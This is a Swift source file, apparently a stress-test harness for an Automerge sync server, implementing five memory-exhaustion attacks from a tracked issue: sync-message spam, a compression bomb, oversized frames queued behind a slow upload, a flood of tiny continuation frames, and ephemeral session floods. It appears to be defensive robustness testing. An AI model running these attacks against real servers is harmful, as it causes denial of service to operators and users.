import AutomergeCore
import AutomergeRepo
import ByteEncodings
import CompressNIO
import Crypto
import Foundation
import NIOCore

/// The five memory attacks of issue 14, each against a fresh server. Counts follow the issue
/// where they fit in a short run; each attack stops after `timeLimit` whatever happens.
enum Attacks {
    static let timeLimit: TimeInterval = 60

    static func join(_ socket: RawWebSocket, as peer: String) throws {
        let join = JoinMessage(senderId: peer, peerMetadata: PeerMetadata(storageId: nil, isEphemeral: true), supportedProtocolVersions: ["1"])
        try socket.sendMessage(RepoMessage.join(join).encoded())
    }

    /// A message that says "I have nothing": empty heads, empty have.
    static var emptySyncData: [UInt8] {
        var state = SyncState()
        return ChangeGraph().generateSyncMessage(&state)?.encode() ?? []
    }

    static func syncFrame(document: String, data: [UInt8], from peer: String, request: Bool = false) -> [UInt8] {
        let message = DocumentSyncMessage(senderId: peer, targetId: "server", documentId: document, data: data)
        return (request ? RepoMessage.request(message) : RepoMessage.sync(message)).encoded()
    }

    /// A document of about `megabytes` MB of barely compressible text values, in `megabytes` changes.
    static func bigDocument(megabytes: Int) throws -> AutomergeDocument {
        var document = AutomergeDocument(actor: ActorId(Array(repeating: 0x5a, count: 16)))
        var rng = SystemRandomNumberGenerator()
        let letters = Array("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
        for change in 0..<megabytes {
            for key in 0..<1000 {
                let value = String((0..<1000).map { _ in letters[Int.random(in: 0..<letters.count, using: &rng)] })
                try document.put(.root, key: "k\(change)-\(key)", .string(value))
            }
            _ = document.commit()
        }
        return document
    }

    /// (a) Request a big document, then spam "I have nothing" sync messages without reading.
    static func unreadResends(port: Int, document: DocumentId, count: Int) throws -> String {
        let socket = try RawWebSocket(port: port, receiveBuffer: 4096)
        try join(socket, as: "attacker-a")
        try socket.sendMessage(syncFrame(document: document.string, data: emptySyncData, from: "attacker-a", request: true))
        Thread.sleep(forTimeInterval: 0.5)
        var sent = 0
        for _ in 0..<count {
            guard (try? socket.sendMessage(syncFrame(document: document.string, data: emptySyncData, from: "attacker-a"))) != nil else { break }
            sent += 1
            Thread.sleep(forTimeInterval: 0.01)
        }
        Thread.sleep(forTimeInterval: 5)  // held, never read
        socket.close()
        return "\(sent) empty-heads messages sent, nothing read"
    }

    /// (b) One sync message of compressed changes that inflate to 100 MiB each.
    static func inflationBomb(port: Int, chunks: Int, inflatedSize: Int) throws -> String {
        let bomb = try compressedZeroChange(size: inflatedSize)
        var stream: [UInt8] = []
        for _ in 0..<chunks { stream += bomb }
        let message = SyncMessage(heads: [], need: [], have: [SyncHave()], changes: [stream])
        let socket = try RawWebSocket(port: port)
        try join(socket, as: "attacker-b")
        _ = try socket.readMessage()
        let frame = syncFrame(document: DocumentId.random().string, data: message.encode(), from: "attacker-b")
        let start = Date()
        try socket.sendMessage(frame)
        var answer = "no answer"
        while Date().timeIntervalSince(start) < timeLimit, let reply = try? socket.readMessage() {
            if case .error(let error)? = try? RepoMessage(decoding: reply) {
                answer = "error: \(error.message.prefix(90))"
                break
            }
        }
        socket.close()
        return "\(frame.count / 1024) KiB message → \(answer) after \(String(format: "%.1f", Date().timeIntervalSince(start))) s"
    }

    /// A type-2 chunk inflating to `size` zero bytes, with the checksum of the inflated form.
    static func compressedZeroChange(size: Int) throws -> [UInt8] {
        let zeros = [UInt8](repeating: 0, count: size)
        var header: [UInt8] = [1]
        LEB128.appendUnsigned(UInt64(size), to: &header)
        var hasher = SHA256()
        hasher.update(data: header)
        hasher.update(data: zeros)
        let checksum = Array(hasher.finalize().prefix(4))
        var input = ByteBufferAllocator().buffer(capacity: size)
        input.writeBytes(zeros)
        var output = try input.compress(with: .deflate())
        let body = output.readBytes(length: output.readableBytes) ?? []
        var chunk: [UInt8] = [0x85, 0x6f, 0x4a, 0x83] + checksum + [2]
        LEB128.appendUnsigned(UInt64(body.count), to: &chunk)
        return chunk + body
    }

    /// (c) A slow upload (a big document's changes in one message), then big frames behind it.
    static func bigFramesBehindSlowChange(port: Int, upload: AutomergeDocument, frames: Int, frameSize: Int) throws -> String {
        let socket = try RawWebSocket(port: port)
        try join(socket, as: "attacker-c")
        _ = try socket.readMessage()
        let changes = upload.changes
        let message = SyncMessage(heads: upload.heads.sorted(), need: [], have: [SyncHave()], changes: changes.map(\.bytes))
        let padding = EphemeralMessage(
            senderId: "attacker-c",
            targetId: "server",
            documentId: DocumentId.random().string,
            count: 1,
            sessionId: "c",
            data: [UInt8](repeating: 0x61, count: frameSize)
        )
        let paddingFrame = RawWebSocket.frame(opcode: 2, fin: true, payload: RepoMessage.ephemeral(padding).encoded())
        let uploadFrame = syncFrame(document: DocumentId.random().string, data: message.encode(), from: "attacker-c")
        let done = DispatchSemaphore(value: 0)
        let sentBox = Counter()
        let thread = Thread {
            if (try? socket.sendMessage(uploadFrame)) != nil {
                for _ in 0..<frames {
                    guard (try? socket.sendRaw(paddingFrame)) != nil else { break }
                    sentBox.increment()
                }
            }
            done.signal()
        }
        thread.start()
        let finished = done.wait(timeout: .now() + 20) == .success
        socket.close()
        _ = done.wait(timeout: .now() + 5)
        return
            "\(uploadFrame.count >> 20) MiB upload, then \(sentBox.value) of \(frames) × \(frameSize >> 20) MiB frames sent\(finished ? "" : " (sender blocked: back-pressure)")"
    }

    /// (d) One message of millions of one-byte continuation frames.
    static func tinyFrames(port: Int, count: Int) throws -> String {
        let socket = try RawWebSocket(port: port)
        try join(socket, as: "attacker-d")
        _ = try socket.readMessage()
        let continuation = RawWebSocket.frame(opcode: 0, fin: false, payload: [0])
        let batchFrames = 65_536
        var batch: [UInt8] = []
        batch.reserveCapacity(continuation.count * batchFrames)
        for _ in 0..<batchFrames { batch += continuation }
        try socket.sendRaw(RawWebSocket.frame(opcode: 2, fin: false, payload: [0x80]))
        var sent = 0
        let start = Date()
        while sent < count, Date().timeIntervalSince(start) < timeLimit {
            guard (try? socket.sendRaw(batch)) != nil else { break }
            sent += batchFrames
        }
        Thread.sleep(forTimeInterval: 2)
        socket.close()
        return "\(sent) one-byte continuation frames sent (\((sent * continuation.count) >> 20) MiB)"
    }

    /// (e) Ephemeral messages, each with a new session id, in rounds.
    static func ephemeralFlood(port: Int, rounds: Int, perRound: Int) throws -> String {
        let socket = try RawWebSocket(port: port)
        try join(socket, as: "attacker-e")
        _ = try socket.readMessage()
        let document = DocumentId.random().string
        var sent = 0
        let start = Date()
        for round in 0..<rounds {
            var batch: [UInt8] = []
            for index in 0..<perRound {
                let message = EphemeralMessage(
                    senderId: "attacker-e",
                    targetId: "server",
                    documentId: document,
                    count: 1,
                    sessionId: "r\(round)-s\(index)-\(UInt64.random(in: 0...UInt64.max))",
                    data: [0xa0]
                )
                batch += RawWebSocket.frame(opcode: 2, fin: true, payload: RepoMessage.ephemeral(message).encoded())
                if batch.count > 1 << 20 {
                    try socket.sendRaw(batch)
                    batch.removeAll(keepingCapacity: true)
                }
                sent += 1
            }
            try socket.sendRaw(batch)
            if Date().timeIntervalSince(start) > timeLimit { break }
        }
        Thread.sleep(forTimeInterval: 3)
        socket.close()
        return "\(sent) ephemeral messages with new session ids"
    }
}

final class Counter: @unchecked Sendable {
    private let lock = NSLock()
    private var count = 0
    func increment() {
        lock.lock()
        count += 1
        lock.unlock()
    }
    var value: Int {
        lock.lock()
        defer { lock.unlock() }
        return count
    }
}
